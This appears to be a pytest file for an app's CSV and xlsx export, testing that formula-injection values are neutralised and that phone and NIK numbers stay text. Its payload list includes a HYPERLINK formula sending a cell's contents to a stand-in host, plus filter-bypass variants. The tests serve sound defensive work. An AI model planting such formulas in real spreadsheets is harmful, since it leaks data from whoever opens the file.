"""Formula injection is neutralised in CSV and xlsx; phone numbers and NIKs stay text."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime

import openpyxl
import pytest

from kopdes_desktop.exchange.safe_cells import (
    DATE_FORMAT,
    safe_csv_value,
    unescape_csv_value,
    write_safe_cell,
)

DANGEROUS = [
    "=1+1",
    '=HYPERLINK("http://contoh.test/?d="&A1,"klik")',
    "+6281234567890",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # an import that trims spaces would expose it
    "＝1+1",  # full-width equals sign
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_value_starting_a_formula_gets_an_apostrophe(text):
    assert safe_csv_value(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["Siti Aminah", "Jl. Melawai No. 1", "081234567890", "Sawang Ba'u", "a=b", ""]
)
def test_ordinary_text_is_left_alone(text):
    assert safe_csv_value(text) == text


def test_numbers_stay_numbers_and_dates_are_iso():
    assert safe_csv_value(-5) == "-5"
    assert safe_csv_value(1500000) == "1500000"
    assert safe_csv_value(None) == ""
    assert safe_csv_value(date(2025, 5, 31)) == "2025-05-31"
    assert safe_csv_value(datetime(2025, 5, 31, 13, 0)) == "2025-05-31 13:00:00"


@pytest.mark.parametrize("text", [*DANGEROUS, "'sudah", "''dua", "biasa"])
def test_csv_round_trip_through_our_reader_is_exact(text):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_csv_value(text)])
    (field,) = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert unescape_csv_value(field) == text


def test_xlsx_formula_like_text_is_a_string_cell_with_quote_prefix(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    for row, text in enumerate(DANGEROUS, start=1):
        write_safe_cell(ws, row, 1, text)
    write_safe_cell(ws, 20, 1, "Siti Aminah")
    write_safe_cell(ws, 21, 1, date(2025, 5, 31))
    write_safe_cell(ws, 22, 1, 1500000)
    write_safe_cell(ws, 23, 1, "bel\x07l")  # a control character openpyxl would refuse
    wb.save(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    for row, text in enumerate(DANGEROUS, start=1):
        cell = ws.cell(row=row, column=1)
        expected = text.replace("\r", "\n")  # XML normalises a lone CR to LF
        assert (cell.value, cell.data_type) == (expected, "s"), text
        assert cell.quotePrefix and cell.number_format == "@"  # editing keeps it text
    plain = ws["A20"]
    assert not plain.quotePrefix and plain.number_format == "General"
    assert ws["A21"].value == datetime(2025, 5, 31) and ws["A21"].number_format == DATE_FORMAT
    assert ws["A22"].value == 1500000 and ws["A22"].data_type == "n"
    assert ws["A23"].value == "bell"


def test_xlsx_phone_and_nik_stay_text_without_a_visible_apostrophe(tmp_path):
    wb = openpyxl.Workbook()
    write_safe_cell(wb.active, 1, 1, "+6281234567890")
    write_safe_cell(wb.active, 2, 1, "3174075708850003")
    wb.save(tmp_path / "t.xlsx")
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx").active
    assert ws["A1"].value == "+6281234567890" and ws["A1"].data_type == "s"
    assert ws["A2"].value == "3174075708850003" and ws["A2"].quotePrefix
